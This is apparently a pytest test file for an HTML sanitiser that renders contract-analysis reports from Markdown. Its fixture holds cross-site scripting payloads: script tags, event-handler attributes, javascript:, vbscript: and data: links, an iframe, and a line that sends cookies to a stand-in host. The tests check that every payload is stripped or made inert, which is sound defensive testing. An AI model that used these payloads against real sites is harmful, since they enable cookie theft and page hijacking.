"""The report as HTML for the web page: Markdown rendered without raw HTML, then sanitised."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest

from chalicelib.keys import build_artifact_key
from chalicelib.models import Document, DocumentStatus
from chalicelib.report_html import (
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    LINK_REL,
    render_report_html,
    sanitize_html,
)
from chalicelib.services.documents import DocumentQueries
from tests.fakes.ports import FakeObjectStore, FakeRepository

# What a hostile document (or a model echoing one) could put into a report's Markdown.
HOSTILE_MARKDOWN = """\
# Report <script>alert('title')</script>

<script>document.location='https://evil.example/?c='+document.cookie</script>

<img src=x onerror="alert('img')">

<div onclick="alert('div')" style="position:fixed">overlay</div>

<iframe src="https://evil.example"></iframe>

[plain](javascript:alert('link'))
[mixed case](JaVaScRiPt:alert('case'))
[entity](java&#115;cript:alert('entity'))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[vb](vbscript:msgbox('vb'))
<javascript:alert('autolink')>
<a href="javascript:alert('raw')">raw anchor</a>
![pixel](https://tracker.example/pixel.png)
[ok](https://example.com/terms "Terms")

> «Поставщик вправе <b onmouseover=alert(1)>в одностороннем</b> порядке отказаться»

<svg onload=alert('svg')></svg>
<style>body{display:none}</style>
<!-- a comment -->
"""


class _Elements(HTMLParser):
    """Every start tag with its attributes, and the text, of an HTML fragment."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


@pytest.fixture(scope="module")
def hostile() -> _Elements:
    return _Elements(render_report_html(HOSTILE_MARKDOWN))


def test_report_html_hostile_markdown_leaves_only_allowed_tags(hostile: _Elements) -> None:
    tags = {tag for tag, _ in hostile.elements}
    assert tags <= ALLOWED_TAGS
    assert not tags & {"script", "img", "iframe", "svg", "style", "div", "b"}


def test_report_html_hostile_markdown_leaves_no_event_handler_or_style(
    hostile: _Elements,
) -> None:
    for tag, attrs in hostile.elements:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        assert "style" not in attrs, (tag, attrs)


def test_report_html_links_are_only_http_or_mailto_and_never_open_the_opener(
    hostile: _Elements,
) -> None:
    links = [attrs for tag, attrs in hostile.elements if tag == "a"]
    assert [link["href"] for link in links] == ["https://example.com/terms"]
    for link in links:
        scheme = str(link["href"]).split(":", 1)[0].lower()
        assert scheme in ALLOWED_URL_SCHEMES
        assert link["rel"] == LINK_REL


def test_report_html_raw_html_in_the_markdown_is_shown_as_text(hostile: _Elements) -> None:
    text = "".join(hostile.text)
    # The words stay readable (a contract quoting markup is still evidence), inert.
    assert "<script>document.location=" in text
    assert "onerror" in text
    assert hostile.comments == []


def test_report_html_the_serialised_html_has_no_script_or_javascript_url() -> None:
    html = render_report_html(HOSTILE_MARKDOWN).lower()

    for tag in ("<script", "<img", "<iframe", "<svg", "<style", "<div", "<!--"):
        assert tag not in html
    # The only real anchor is the https one; the others are inert text ("&lt;a href=...").
    assert re.findall(r"<a\s[^>]*>", html) == [
        f'<a href="https://example.com/terms" title="terms" rel="{LINK_REL}">'
    ]
    assert "tracker.example" not in html


def test_report_html_renders_the_report_structure() -> None:
    markdown = (
        "# Report: supply.pdf\n\n"
        "## Findings\n\n"
        "| Severity | Count |\n|---|--:|\n| High | 1 |\n\n"
        "#### 1. Unilateral termination (`termination`)\n\n"
        "> Поставщик вправе в одностороннем порядке отказаться\n\n"
        "**Recommendation:** limit it.\n\n"
        "3. third\n4. fourth\n"
    )

    elements = _Elements(render_report_html(markdown))
    tags = [tag for tag, _ in elements.elements]

    assert {"h1", "h2", "h4", "table", "th", "td", "blockquote", "strong", "code"} <= set(tags)
    assert ("ol", {"start": "3"}) in elements.elements
    assert ("td", {}) in elements.elements  # no style: the page's CSP refuses inline styles
    assert "Поставщик вправе в одностороннем порядке отказаться" in "".join(elements.text)


def test_report_html_sanitize_drops_what_markdown_never_makes() -> None:
    cleaned = sanitize_html(
        '<p class="x" id="y">a<a href="https://e.example" target="_blank">b</a></p>'
        '<table><tr><td style="text-align:center; background:url(https://e.example/x)">c'
        "</td></tr></table>"
    )

    assert cleaned == (
        f'<p>a<a href="https://e.example" rel="{LINK_REL}">b</a></p>'
        "<table><tbody><tr><td>c</td></tr></tbody></table>"
    )


def test_report_html_the_report_answer_carries_the_sanitised_html_beside_the_markdown() -> None:
    created = datetime(2026, 1, 1, tzinfo=UTC)
    document = Document(
        document_id="doc-hostile",
        owner_id="anna",
        region="ru",
        status=DocumentStatus.DONE,
        filename="hostile.pdf",
        content_type="application/pdf",
        ext="pdf",
        declared_size=100,
        created_at=created,
        updated_at=created,
        upload_expires_at=created + timedelta(minutes=15),
    )
    repo, store = FakeRepository(), FakeObjectStore()
    repo.documents[document.document_id] = document
    ref = ("ru", "doc-hostile", document.version)
    store.put_text(
        build_artifact_key(*ref, "report.md"),
        HOSTILE_MARKDOWN,
        content_type="text/markdown",
        expires_with_text=False,
    )
    store.put_text(
        build_artifact_key(*ref, "report.json"),
        json.dumps({"analysis": None}),
        content_type="application/json",
        expires_with_text=False,
    )

    view = DocumentQueries(repo, store).report("anna", "doc-hostile")

    assert view.http_status == 200
    assert view.body["markdown"] == HOSTILE_MARKDOWN
    assert view.body["html"] == render_report_html(HOSTILE_MARKDOWN)
    assert "<script" not in view.body["html"]
